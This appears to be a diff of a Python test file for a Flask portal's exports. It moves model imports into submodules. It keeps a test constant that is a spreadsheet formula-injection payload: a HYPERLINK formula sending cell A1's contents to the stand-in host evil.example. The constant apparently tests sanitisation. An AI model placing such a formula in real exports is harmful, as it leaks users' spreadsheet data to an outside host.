@@ -16,8 +16,10 @@ from flask.testing import FlaskClient
 from portal.extensions import db
 from portal.models import Account, Role
 from portal.presentation.exports import spreadsheet_safe
+from publicity.core.models import Court, ThrottleEvent
 from publicity.lists import defaulters
-from publicity.models import Court, ListingGround, PartyKind, ThrottleEvent
+from publicity.lists.models import ListingGround
+from publicity.record.models import PartyKind
 from tests.factories import NOW, login, make_lookup_case
 
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
